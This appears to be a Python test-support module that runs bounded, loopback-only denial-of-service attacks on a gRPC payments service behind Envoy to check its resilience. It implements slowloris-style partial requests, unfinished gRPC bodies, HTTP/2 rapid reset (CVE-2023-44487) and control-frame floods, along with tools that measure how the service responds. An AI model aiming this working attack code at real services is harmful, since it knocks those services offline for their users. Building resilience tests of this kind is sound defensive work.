"""Attacks on the service's availability, for the fault tests: small, loopback only, bounded in
time and in count, each a context manager that closes its sockets on exit.

What an attacker without an account (or with one) can do to hold the service's resources:

    header_only_streams      HTTP/2 streams that send a gRPC call's HEADERS and never a message
    partial_message_streams  the same, then a gRPC length prefix announcing N bytes and fewer
    partial_header_requests  HTTP/1.1 requests whose header block never ends
    slow_body_posts          HTTP/1.1 POSTs whose body never reaches its Content-Length
    idle_connections         TCP connections that send nothing
    preface_connections      HTTP/2 connections that send the client preface and SETTINGS only
    partial_bodies           the same with a message near the body limit, from several addresses at once
    partial_body_flood       the same from a new address every few connections, as prepared frames, as fast as one process writes
    rapid_reset              HTTP/2 streams opened and reset at once, as fast as the client can
    control_frame_flood      HTTP/2 PING, SETTINGS or WINDOW_UPDATE frames as fast as they are read
    closed_loop_calls        one customer's many concurrent unary calls, each followed by the next

and what the tests read back: what each stream or connection got and when (.outcomes(),
.answered_within() / .closed_within(), .answer_times() / .lifetimes(): a reset, a gRPC status, an
HTTP status, EOF, or nothing yet), envoy_memory() and EnvoyMemorySampler (Envoy's resident memory
and its heap as it reports it), envoy_stats(), thread_count() (a server's threads),
configured_timeouts(), configured_body_limit(), configured_overload_limits() and configured_route() (what
envoy.yaml promises), grpc_methods() (every public method, from the
generated descriptors), parse_http_response(), median() and percentile(). address_relay() lets a
grpc client (which cannot choose its source address) come from another loopback address.
InChildProcess runs an attack in a process of its own, so the test's clients do not share its
interpreter lock. Every tool takes `source`, the loopback address its connections come from (127.0.0.0/8 is all
loopback on Linux), so an attack and the clients it must not hurt are told apart by address.

Thousands of sockets need as many file descriptors: raise_open_files() raises this process's soft
RLIMIT_NOFILE (never above the hard limit); call it before starting the processes under test, which
inherit it.
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import dataclasses
import json
import os
import re
import resource
import selectors
import socket
import statistics
import struct
import threading
import time
import urllib.request
from typing import Iterable, Sequence

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import yaml

from devstack.envoyconf import CONFIG

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
EMPTY_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # a SETTINGS frame with no settings
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # a gRPC message: not compressed, 0 bytes (an empty proto)
GRPC_CODES = {code.value[0]: code.name for code in grpc.StatusCode}
KEEP_BYTES = 16384  # of what a raw connection receives, the first this many bytes are kept


def raise_open_files(wanted: int) -> int:
    """Raise this process's soft RLIMIT_NOFILE to `wanted` (at most the hard limit); returns the
    soft limit now in force. Processes started afterwards inherit it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if target > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        soft = target
    return soft


def grpc_message(payload: bytes) -> bytes:
    """A whole gRPC length-prefixed message (not compressed)."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def _connect(host: str, port: int, source: str | None, timeout: float = 5.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if source:
            sock.bind((source, 0))
        sock.settimeout(timeout)
        sock.connect((host, port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    except BaseException:
        sock.close()
        raise
    return sock


@dataclasses.dataclass(eq=False)
class Conn:
    """One client connection: what it received (the first KEEP_BYTES) and when the peer closed it."""
    sock: socket.socket
    opened: float
    kind: str = ""
    received: bytearray = dataclasses.field(default_factory=bytearray)
    first_byte_at: float | None = None
    closed_at: float | None = None  # EOF or reset seen (monotonic)
    close_kind: str | None = None  # "eof" or "reset"
    lock: threading.Lock = dataclasses.field(default_factory=threading.Lock)

    def on_data(self, data: bytes) -> None:
        if self.first_byte_at is None:
            self.first_byte_at = time.monotonic()
        if len(self.received) < KEEP_BYTES:
            self.received += data[:KEEP_BYTES - len(self.received)]

    def on_closed(self) -> None:
        pass

    def send(self, data: bytes) -> bool:
        """False if the connection is already gone."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    @property
    def lifetime(self) -> float | None:
        """Seconds from open to the peer's close, if it closed."""
        return None if self.closed_at is None else self.closed_at - self.opened

    def outcome(self) -> str:
        """'http:<status>' once an HTTP/1 status line came back; 'goaway' for an HTTP/2 GOAWAY;
        else 'eof' / 'reset' once closed; else 'open' (data or not)."""
        data = bytes(self.received)
        if data.startswith(b"HTTP/1."):
            parts = data.split(b" ", 2)
            if len(parts) >= 2 and parts[1].isdigit():
                return f"http:{parts[1].decode()}"
        if self.kind == "preface" and 7 in _frame_types(data):
            return "goaway"
        return self.close_kind or "open"


def _frame_types(data: bytes | bytearray, *, keep_partial: bool = False) -> list[int]:
    """The types of the whole HTTP/2 frames in `data` (a server's bytes after the preface). With
    `keep_partial`, `data` (a bytearray) keeps only a last frame not yet whole, for the next read
    to complete: reads split frames anywhere, and one read parsed alone misses what follows."""
    types, i = [], 0
    while i + 9 <= len(data):
        length = int.from_bytes(data[i:i + 3], "big")
        if keep_partial and i + 9 + length > len(data):
            break
        types.append(data[i + 3])
        i += 9 + length
    if keep_partial:
        del data[:i]
    return types


class Held:
    """Connections held open, their incoming bytes read and discarded (kept for the outcome) by one
    background thread, so neither side's flow control stalls. Closes every socket on exit."""

    def __init__(self, read: bool = True):
        self.conns: list[Conn] = []
        self.read = read
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="attack-reader", daemon=True)
        self._started = False

    def __enter__(self):
        try:
            self.open()
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def open(self) -> None:  # subclasses open their connections
        raise NotImplementedError

    def _hold(self, conn: Conn) -> None:
        self.conns.append(conn)
        if self.read:
            self._selector.register(conn.sock, selectors.EVENT_READ, conn)
            if not self._started:
                self._started = True
                self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                ready = self._selector.select(0.1)
            except (OSError, ValueError, KeyError):  # a socket closed under the selector
                time.sleep(0.01)
                continue
            for key, _ in ready:
                conn: Conn = key.data
                try:
                    data = conn.sock.recv(65536)
                except (BlockingIOError, socket.timeout, InterruptedError):
                    continue
                except OSError:
                    self._closed(conn, "reset")
                    continue
                if not data:
                    self._closed(conn, "eof")
                    continue
                try:
                    conn.on_data(data)
                except Exception:  # a protocol error on our side: count it as the end
                    self._closed(conn, "reset")

    def _closed(self, conn: Conn, kind: str) -> None:
        if conn.closed_at is None:
            conn.closed_at, conn.close_kind = time.monotonic(), kind
        with contextlib.suppress(KeyError, ValueError, OSError):
            self._selector.unregister(conn.sock)
        with conn.lock:
            conn.on_closed()

    def close(self) -> None:
        self._stop.set()
        if self._started:
            self._thread.join(timeout=5)
        for conn in self.conns:
            with contextlib.suppress(OSError):
                conn.sock.close()
        with contextlib.suppress(OSError):
            self._selector.close()

    # What came back.

    def outcomes(self) -> collections.Counter:
        return collections.Counter(conn.outcome() for conn in self.conns)

    def closed_within(self, seconds: float) -> int:
        """Wait until every connection is closed by the peer, at most `seconds` from the time it
        was opened; returns how many are still open."""
        for conn in self.conns:
            while conn.closed_at is None and time.monotonic() < conn.opened + seconds:
                time.sleep(0.05)
        return sum(1 for conn in self.conns if conn.closed_at is None)

    def lifetimes(self) -> list[float]:
        """Seconds each connection the peer closed lived, in order."""
        return sorted(conn.lifetime for conn in self.conns if conn.lifetime is not None)


# --------------------------------------------------------------------------------------------
# Raw TCP and HTTP/1.1


class RawConnections(Held):
    """`count` connections to host:port from `source`, each sending `initial` and nothing more."""

    def __init__(self, host: str, port: int, count: int, initial: bytes = b"", *, kind: str = "raw",
                 source: str | None = None, read: bool = True, connect_timeout: float = 5.0):
        super().__init__(read)
        self.host, self.port, self.count, self.initial, self.kind = host, port, count, initial, kind
        self.source, self.connect_timeout = source, connect_timeout
        self.refused = 0  # connections that could not be made (refused, reset during connect)

    def open(self) -> None:
        for _ in range(self.count):
            try:
                sock = _connect(self.host, self.port, self.source, self.connect_timeout)
            except OSError:
                self.refused += 1
                continue
            conn = Conn(sock, time.monotonic(), self.kind)
            if self.initial:
                conn.send(self.initial)
            self._hold(conn)


def idle_connections(host: str, port: int, count: int, *, source: str | None = None, **kw) -> RawConnections:
    """TCP connections that never send a byte."""
    return RawConnections(host, port, count, b"", kind="idle", source=source, **kw)


def preface_connections(host: str, port: int, count: int, *, source: str | None = None, **kw) -> RawConnections:
    """HTTP/2 connections that send the client preface and an empty SETTINGS frame, then nothing
    (not even the SETTINGS acknowledgement): no stream is ever opened."""
    return RawConnections(host, port, count, PREFACE + EMPTY_SETTINGS, kind="preface", source=source, **kw)


def partial_header_requests(host: str, port: int, count: int, *, path: str = "/v1/payments",
                            source: str | None = None, **kw) -> RawConnections:
    """HTTP/1.1 requests whose header block is never finished: the request line, Host, and half a
    header, then nothing."""
    start = f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: appl".encode()
    return RawConnections(host, port, count, start, kind="partial-headers", source=source, **kw)


def slow_body_posts(host: str, port: int, path: str, count: int, *, content_length: int = 60_000,
                    sent: int = 1_000, token: str | None = None, source: str | None = None, **kw) -> RawConnections:
    """HTTP/1.1 POSTs with whole headers announcing `content_length` bytes of JSON body, of which
    only the first `sent` are ever sent (a half-sent, or very slow, body)."""
    if sent >= content_length:
        raise ValueError("a slow body sends fewer bytes than it announces")
    headers = (f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
               f"Content-Length: {content_length}\r\n" + (f"Authorization: Bearer {token}\r\n" if token else "")
               + "\r\n").encode()
    body = (b'{"email": "slow@example.com", "amount": "1250", "currency": "IDR", "description": "'
            + b"x" * content_length)[:sent]
    return RawConnections(host, port, count, headers + body, kind="slow-body", source=source, **kw)


# --------------------------------------------------------------------------------------------
# HTTP/2 streams


@dataclasses.dataclass(eq=False)
class Stream:
    method: str
    stream_id: int
    opened: float
    outcome: str | None = None  # None while nothing final came back
    answered_at: float | None = None
    status: str | None = None  # the response's :status, once headers came back

    def end(self, outcome: str) -> None:
        if self.outcome is None:
            self.outcome, self.answered_at = outcome, time.monotonic()


class H2Conn(Conn):
    """A client HTTP/2 connection (h2c, prior knowledge) driven by the h2 library."""

    def __init__(self, sock: socket.socket, authority: str):
        super().__init__(sock, time.monotonic(), "h2")
        self.authority = authority
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_inbound_headers=False))
        self.streams: dict[int, Stream] = {}
        self.settings_seen = threading.Event()
        self.goaway: tuple[str, int] | None = None  # (error code, last stream id)
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> bool:
        out = self.h2.data_to_send()
        return self.send(out) if out else True

    def on_data(self, data: bytes) -> None:
        super().on_data(b"")
        with self.lock:
            try:
                events = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.goaway = self.goaway or ("CLIENT_PROTOCOL_ERROR", 0)
                raise
            for event in events:
                self._on_event(event)
            self.flush()

    def _on_event(self, event) -> None:
        stream = self.streams.get(getattr(event, "stream_id", None) or 0)
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_seen.set()
        elif isinstance(event, h2.events.ResponseReceived) and stream is not None:
            headers = dict(event.headers)
            stream.status = headers.get(":status")
            if "grpc-status" in headers:  # trailers-only: the call's whole answer
                stream.end(_grpc_outcome(headers))
        elif isinstance(event, h2.events.TrailersReceived) and stream is not None:
            stream.end(_grpc_outcome(dict(event.headers)))
        elif isinstance(event, h2.events.DataReceived):
            if event.flow_controlled_length:
                with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamEnded) and stream is not None:
            stream.end(f"http:{stream.status}")
        elif isinstance(event, h2.events.StreamReset) and stream is not None:
            stream.end(f"reset:{_error_name(event.error_code)}")
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = (_error_name(event.error_code), event.last_stream_id or 0)
            for sid, s in self.streams.items():
                if event.last_stream_id is not None and sid > event.last_stream_id:
                    s.end("goaway:refused")

    def on_closed(self) -> None:
        for s in self.streams.values():
            s.end("closed")

    def open_stream(self, headers: list[tuple[str, str]], data: bytes = b"", end_stream: bool = False) -> int | None:
        """A new stream with these headers (then `data`); None if this connection takes no more."""
        with self.lock:
            if self.closed_at is not None or self.goaway is not None:
                return None
            try:
                sid = self.h2.get_next_available_stream_id()
                self.h2.send_headers(sid, headers, end_stream=end_stream and not data)
                if data:
                    self.h2.send_data(sid, data, end_stream=end_stream)
            except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
                return None
            self.streams[sid] = Stream(_headers_path(headers), sid, time.monotonic())
            if not self.flush():
                return None
            return sid


def _headers_path(headers) -> str:
    return next(v for k, v in headers if k == ":path")


def _grpc_outcome(headers: dict) -> str:
    code = headers.get("grpc-status", "")
    return f"grpc:{GRPC_CODES.get(int(code), code)}" if code.isdigit() else f"http:{headers.get(':status')}"


def _error_name(code) -> str:
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def grpc_headers(host: str, port: int, method_path: str, token: str | None = None,
                 extra: Iterable[tuple[str, str]] = ()) -> list[tuple[str, str]]:
    """The request headers of a gRPC call, as grpc's clients send them."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", method_path), (":authority", f"{host}:{port}"),
               ("content-type", "application/grpc"), ("te", "trailers"), ("user-agent", "payments-fault-tests")]
    if token:
        headers.append(("authorization", f"Bearer {token}"))
    return headers + list(extra)


class H2Streams(Held):
    """`count` streams on each of `method_paths`, each sending HEADERS (and then `data`) but never
    END_STREAM, at most `per_connection` a connection (fewer if the server says so)."""

    def __init__(self, host: str, port: int, method_paths: str | Sequence[str], count: int, *,
                 per_connection: int = 100, token: str | None = None, data: bytes = b"",
                 source: str | None = None, read: bool = True, extra_headers: Iterable[tuple[str, str]] = ()):
        super().__init__(read)
        self.host, self.port, self.count, self.per_connection = host, port, count, per_connection
        self.method_paths = [method_paths] if isinstance(method_paths, str) else list(method_paths)
        self.token, self.data, self.source, self.extra = token, data, source, tuple(extra_headers)
        self.not_opened = 0  # streams no connection would take

    def open(self) -> None:
        conn: H2Conn | None = None
        for method in self.method_paths:
            headers = grpc_headers(self.host, self.port, method, self.token, self.extra)
            for _ in range(self.count):
                sid = None
                for _attempt in range(3):
                    if conn is None or len(conn.streams) >= self.per_connection:
                        conn = self._new_connection()
                    sid = conn.open_stream(headers, self.data)
                    if sid is not None:
                        break
                    conn = None  # full or gone: the next stream goes on a new connection
                if sid is None:
                    self.not_opened += 1

    def _new_connection(self) -> H2Conn:
        conn = H2Conn(_connect(self.host, self.port, self.source), f"{self.host}:{self.port}")
        self._hold(conn)
        if self.read:
            conn.settings_seen.wait(1.0)  # the server's MAX_CONCURRENT_STREAMS, before opening streams
        return conn

    @property
    def streams(self) -> list[Stream]:
        return [s for conn in self.conns for s in conn.streams.values()]

    def outcomes(self) -> collections.Counter:
        """What each stream got: 'grpc:<CODE>', 'http:<status>', 'reset:<ERROR>', 'goaway:refused',
        'closed' (its connection closed under it), or 'open' (nothing yet)."""
        return collections.Counter(s.outcome or "open" for s in self.streams)

    def outcomes_by_method(self) -> dict[str, collections.Counter]:
        out: dict[str, collections.Counter] = collections.defaultdict(collections.Counter)
        for s in self.streams:
            out[s.method][s.outcome or "open"] += 1
        return dict(out)

    def answered_within(self, seconds: float) -> int:
        """Wait until every stream got an answer, at most `seconds` after it was opened; returns
        how many are still unanswered."""
        for s in self.streams:
            while s.outcome is None and time.monotonic() < s.opened + seconds:
                time.sleep(0.05)
        return sum(1 for s in self.streams if s.outcome is None)

    def answer_times(self) -> list[float]:
        """Seconds from each answered stream's opening to its answer, in order."""
        return sorted(s.answered_at - s.opened for s in self.streams if s.answered_at is not None)


def header_only_streams(host: str, port: int, method_path: str | Sequence[str], count: int,
                        per_connection: int = 100, *, token: str | None = None, source: str | None = None,
                        read: bool = True) -> H2Streams:
    """gRPC calls that send their HEADERS (content-type application/grpc, te trailers, and the
    token if given) and then nothing: no DATA, no END_STREAM. `count` on each method."""
    return H2Streams(host, port, method_path, count, per_connection=per_connection, token=token, source=source,
                     read=read)


def partial_message_streams(host: str, port: int, method_path: str | Sequence[str], count: int,
                            per_connection: int = 100, *, announced: int = 1024, sent: int = 16,
                            token: str | None = None, source: str | None = None, read: bool = True) -> H2Streams:
    """gRPC calls that send HEADERS, then a message's length prefix announcing `announced` bytes
    and only the first `sent` of them, and never END_STREAM."""
    if sent >= announced:
        raise ValueError("a partial message sends fewer bytes than it announces")
    data = b"\x00" + struct.pack(">I", announced) + b"\x0a" * sent
    return H2Streams(host, port, method_path, count, per_connection=per_connection, token=token, data=data,
                     source=source, read=read)


class PartialBodies(H2Streams):
    """`connections` HTTP/2 connections from each of `sources`, each with `per_connection` gRPC
    calls on `method_path` whose message announces `announced` bytes and sends the first `sent`,
    never END_STREAM: unfinished bodies that Envoy buffers whole before anything goes upstream.
    Each connection waits for the server's SETTINGS and connection window first, so every stream's
    bytes fit the flow-control windows (Envoy's 64 KiB a stream, 1 MiB a connection)."""

    def __init__(self, host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
                 per_connection: int, *, announced: int = 65_536, sent: int = 60_000, token: str | None = None):
        if sent >= announced:
            raise ValueError("a partial message sends fewer bytes than it announces")
        data = b"\x00" + struct.pack(">I", announced) + b"\x0a" * sent
        super().__init__(host, port, method_path, 0, per_connection=per_connection, token=token, data=data)
        self.sources, self.connections = list(sources), connections
        self.refused = 0  # connections that could not be made

    def open(self) -> None:
        headers = grpc_headers(self.host, self.port, self.method_paths[0], self.token, self.extra)
        needed = self.per_connection * len(self.data)
        for source in self.sources:
            for _ in range(self.connections):
                try:
                    sock = _connect(self.host, self.port, source)
                    sock.settimeout(2.0)
                    conn = H2Conn(sock, f"{self.host}:{self.port}")
                    deadline = time.monotonic() + 2.0
                    while (not conn.settings_seen.is_set() or conn.h2.outbound_flow_control_window < needed) \
                            and time.monotonic() < deadline:
                        data = sock.recv(65536)
                        if not data:
                            raise OSError("closed")
                        conn.on_data(data)
                except (OSError, h2.exceptions.ProtocolError):
                    self.refused += 1
                    continue
                for _ in range(self.per_connection):
                    if self._open_stream(conn, headers) is None:
                        self.not_opened += 1
                self._hold(conn)

    def _open_stream(self, conn: H2Conn, headers: list[tuple[str, str]]) -> int | None:
        """Like H2Conn.open_stream, with the message in frames of the largest size the server takes."""
        with conn.lock:
            try:
                sid = conn.h2.get_next_available_stream_id()
                conn.h2.send_headers(sid, headers)
                step = conn.h2.max_outbound_frame_size
                for i in range(0, len(self.data), step):
                    conn.h2.send_data(sid, self.data[i:i + step])
            except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
                return None
            conn.streams[sid] = Stream(self.method_paths[0], sid, time.monotonic())
            return sid if conn.flush() else None


def partial_bodies(host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
                   per_connection: int, **kw) -> PartialBodies:
    """Unfinished gRPC messages from several addresses (see PartialBodies)."""
    return PartialBodies(host, port, method_path, sources, connections, per_connection, **kw)


# --------------------------------------------------------------------------------------------
# Rapid reset (CVE-2023-44487)


class RapidReset:
    """For `seconds` (or `max_streams` streams), on a background thread: open a stream with a whole
    small request (health Check) and reset it (RST_STREAM CANCEL) at once, `batch` at a time, on
    one connection; when the server closes it (GOAWAY or EOF), open another. Counts in .counts."""

    def __init__(self, host: str, port: int, method_path: str = HEALTH_CHECK, seconds: float = 10.0, *,
                 max_streams: int = 1_000_000, batch: int = 20, token: str | None = None,
                 source: str | None = None, message: bytes = EMPTY_MESSAGE):
        self.host, self.port, self.seconds, self.max_streams, self.batch = host, port, seconds, max_streams, batch
        self.headers = grpc_headers(host, port, method_path, token)
        self.source, self.message = source, message
        self.counts: collections.Counter = collections.Counter()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="rapid-reset", daemon=True)
        self._sock: socket.socket | None = None

    def __enter__(self) -> "RapidReset":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(timeout=10)

    def wait(self) -> collections.Counter:
        """Until the attack's time (or stream count) is up; its counts."""
        self._thread.join(timeout=self.seconds + 10)
        return self.counts

    def _run(self) -> None:
        deadline = time.monotonic() + self.seconds
        while not self._stop.is_set() and time.monotonic() < deadline and self.counts["streams"] < self.max_streams:
            try:
                self._one_connection(deadline)
            except OSError:
                self.counts["connect_errors"] += 1
                time.sleep(0.05)
            finally:
                if self._sock is not None:
                    with contextlib.suppress(OSError):
                        self._sock.close()
                    self._sock = None

    def _one_connection(self, deadline: float) -> None:
        sock = self._sock = _connect(self.host, self.port, self.source)
        sock.setblocking(False)
        self.counts["connections"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                                   validate_inbound_headers=False))
        conn.initiate_connection()
        conn.increment_flow_control_window(1 << 30)
        pending = bytearray(conn.data_to_send())
        while not self._stop.is_set() and time.monotonic() < deadline and self.counts["streams"] < self.max_streams:
            if len(pending) < 1 << 16:  # the server reads what was sent before more is made
                for _ in range(self.batch):
                    try:
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, self.headers)
                        conn.send_data(sid, self.message, end_stream=True)
                        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    except h2.exceptions.ProtocolError:  # stream ids or the state ran out
                        self.counts["client_gave_up"] += 1
                        return
                    self.counts["streams"] += 1
                    self.counts["resets"] += 1
                pending += conn.data_to_send()
            # While the server has a full buffer to read, wait for it a little rather than spin.
            readable, writable = _select_rw(sock, bool(pending), 0.01 if len(pending) >= 1 << 16 else 0.0)
            if writable and pending:
                try:
                    n = sock.send(pending)
                except BlockingIOError:
                    n = 0
                except OSError:
                    self.counts["closed_by_server"] += 1
                    return
                del pending[:n]
            if readable:
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    self.counts["closed_by_server"] += 1
                    return
                if not data:
                    self.counts["closed_by_server"] += 1
                    return
                try:
                    events = conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.counts["protocol_errors"] += 1
                    return
                for event in events:
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self.counts["goaway"] += 1
                        self.counts[f"goaway:{_error_name(event.error_code)}"] += 1
                        return
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        self.counts["answered"] += 1
                    if isinstance(event, h2.events.StreamReset):
                        self.counts["reset_by_server"] += 1
                    if isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
                        with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                pending += conn.data_to_send()


def _select_rw(sock: socket.socket, want_write: bool, timeout: float = 0.0) -> tuple[bool, bool]:
    with selectors.DefaultSelector() as sel:
        sel.register(sock, selectors.EVENT_READ | (selectors.EVENT_WRITE if want_write else 0))
        ready = sel.select(timeout)
    mask = ready[0][1] if ready else 0
    return bool(mask & selectors.EVENT_READ), bool(mask & selectors.EVENT_WRITE)


def rapid_reset(host: str, port: int, method_path: str = HEALTH_CHECK, seconds: float = 10.0, **kw) -> RapidReset:
    """Streams opened with a whole health Check request and reset at once, for `seconds`,
    reconnecting whenever the server closes the connection: `with rapid_reset(...) as attack:`;
    attack.wait() returns the counts (streams, resets, connections, goaway, closed_by_server...)."""
    return RapidReset(host, port, method_path, seconds, **kw)


# --------------------------------------------------------------------------------------------
# HTTP/2 control-frame floods


def h2_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One raw HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


CONTROL_FRAMES = {
    # PING with 8 bytes of opaque data: the peer must answer each with a PING ACK.
    "ping": h2_frame(6, 0, 0, b"\x00" * 8),
    # An empty SETTINGS: the peer must acknowledge each.
    "settings": h2_frame(4, 0, 0),
    # A connection WINDOW_UPDATE of 1 byte: nothing to answer, but each is parsed and applied.
    "window_update": h2_frame(8, 0, 0, (1).to_bytes(4, "big")),
}


class ControlFrameFlood:
    """For `seconds`, on `connections` threads, each on a connection of its own from `source`: the
    client preface, then `kind` frames (CONTROL_FRAMES) in batches of `batch` as fast as the peer
    reads them; every `call_every` batches (0: never) a whole call on `call_path` (a health Check
    unless told), whose answer a grpc server counts as activity (it forgives ping strikes then). Whatever comes back is read
    and dropped. A connection the peer closes is opened again. Counts in .counts (frames,
    connections, closed_by_server, goaway)."""

    def __init__(self, host: str, port: int, kind: str, seconds: float = 8.0, *, connections: int = 4,
                 batch: int = 200, call_every: int = 10, call_path: str = HEALTH_CHECK, source: str | None = None):
        self.host, self.port, self.kind, self.seconds = host, port, kind, seconds
        self.frames = CONTROL_FRAMES[kind] * batch
        self.batch, self.call_every, self.source = batch, call_every, source
        self._call_headers = grpc_headers(host, port, call_path)
        self.counts: collections.Counter = collections.Counter()
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run, name=f"flood-{kind}", daemon=True)
                         for _ in range(connections)]

    def __enter__(self) -> "ControlFrameFlood":
        for t in self._threads:
            t.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=10)

    def wait(self) -> collections.Counter:
        for t in self._threads:
            t.join(timeout=self.seconds + 10)
        return self.counts

    def _count(self, key: str, n: int = 1) -> None:
        with self._lock:
            self.counts[key] += n

    def _run(self) -> None:
        deadline = time.monotonic() + self.seconds
        while not self._stop.is_set() and time.monotonic() < deadline:
            try:
                self._one_connection(deadline)
            except OSError:
                self._count("connect_errors")
                time.sleep(0.05)

    def _one_connection(self, deadline: float) -> None:
        sock = _connect(self.host, self.port, self.source)
        self._count("connections")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        try:
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            pending, batches, received = bytearray(), 0, bytearray()
            while not self._stop.is_set() and time.monotonic() < deadline:
                if len(pending) < 1 << 16:
                    batches += 1
                    pending += self.frames
                    self._count("frames", self.batch)
                    if self.call_every and batches % self.call_every == 0:
                        try:
                            sid = conn.get_next_available_stream_id()
                            conn.send_headers(sid, self._call_headers)
                            conn.send_data(sid, EMPTY_MESSAGE, end_stream=True)
                            self._count("calls")
                        except h2.exceptions.ProtocolError:  # as many calls open as the peer allows
                            self._count("calls_not_sent")
                        pending += conn.data_to_send()
                readable, writable = _select_rw(sock, bool(pending), 0.01 if len(pending) >= 1 << 16 else 0.0)
                if writable and pending:
                    try:
                        n = sock.send(pending)
                    except BlockingIOError:
                        n = 0
                    del pending[:n]
                if readable:
                    data = sock.recv(1 << 18)
                    if not data:
                        self._count("closed_by_server")
                        return
                    if self.call_every:
                        try:
                            for event in conn.receive_data(data):
                                if isinstance(event, h2.events.ConnectionTerminated):
                                    self._count("goaway")
                                    self._count(f"goaway:{_error_name(event.error_code)}")
                                    return
                                if isinstance(event, h2.events.TrailersReceived):
                                    self._count("answered")
                            pending += conn.data_to_send()
                        except h2.exceptions.ProtocolError:
                            self._count("protocol_errors")
                            return
                    else:
                        received += data
                        if 7 in _frame_types(received, keep_partial=True):
                            self._count("goaway")
                            return
        except (ConnectionError, OSError):
            self._count("closed_by_server")
        finally:
            with contextlib.suppress(OSError):
                sock.close()


def control_frame_flood(host: str, port: int, kind: str, seconds: float = 8.0, **kw) -> ControlFrameFlood:
    """`with control_frame_flood(host, port, "ping", seconds=8, source=...) as flood:` (see
    ControlFrameFlood); flood.wait() returns the counts."""
    return ControlFrameFlood(host, port, kind, seconds, **kw)


def _attack_in_child(kind: str, args: tuple, kw: dict, results) -> None:
    with globals()[kind](*args, **kw) as attack:
        results.put(dict(attack.wait()))


class InChildProcess:
    """An attack class with .wait() (ControlFrameFlood, RapidReset), run in a process of its own,
    so that the test process's clients (the bystander) do not share its interpreter lock: what
    they measure is then the service's slowness, not the attacker's. .wait() returns its counts."""

    def __init__(self, kind: str, *args, **kw):
        import multiprocessing

        context = multiprocessing.get_context("spawn")
        self._results = context.Queue()
        self._process = context.Process(target=_attack_in_child, args=(kind, args, kw, self._results),
                                        name=f"attack-{kind}", daemon=True)
        self._timeout = float(kw.get("seconds", args[3] if len(args) > 3 else 10.0)) + 30.0
        self.counts: collections.Counter | None = None

    def __enter__(self) -> "InChildProcess":
        self._process.start()
        return self

    def __exit__(self, *exc) -> None:
        self._process.join(timeout=self._timeout)
        if self._process.is_alive():
            self._process.kill()
            self._process.join(timeout=5)

    def wait(self) -> collections.Counter:
        if self.counts is None:
            self.counts = collections.Counter(self._results.get(timeout=self._timeout))
        return self.counts


# --------------------------------------------------------------------------------------------
# Unfinished bodies as fast as a process can write them


class PartialBodyFlood:
    """For `seconds`, on a background thread: HTTP/2 connections, each from a loopback address of
    its own block (127.<block>.x.y, a new address every `per_address` connections so that no
    address passes edge_rate_limit's burst), each with `streams` gRPC calls on `method_path`
    whose message announces `announced` bytes and sends the first `sent`, never END_STREAM. The
    frames are written as prepared bytes (one HPACK block reused: literal headers that each
    decode alike), so one process opens thousands of such streams a second, far more than
    PartialBodies with its h2 state per stream. A connection is closed `hold` s after it opened
    (after request_timeout Envoy has ended its streams anyway). .wait() returns the counts:
    connections and streams opened, connections refused or closed before their streams went."""

